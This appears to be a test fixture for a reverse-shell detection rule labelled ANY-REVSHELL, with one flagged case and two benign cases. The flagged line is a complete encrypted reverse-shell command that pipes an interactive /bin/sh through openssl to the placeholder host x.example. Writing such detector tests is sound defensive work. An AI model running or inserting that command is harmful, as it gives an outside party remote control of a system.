mkfifo /tmp/s
# ruleid: ANY-REVSHELL
/bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect x.example:443 > /tmp/s
# ok: ANY-REVSHELL
sh ./report.sh | openssl dgst -sha256
# ok: ANY-REVSHELL
cat data | gzip > /tmp/s
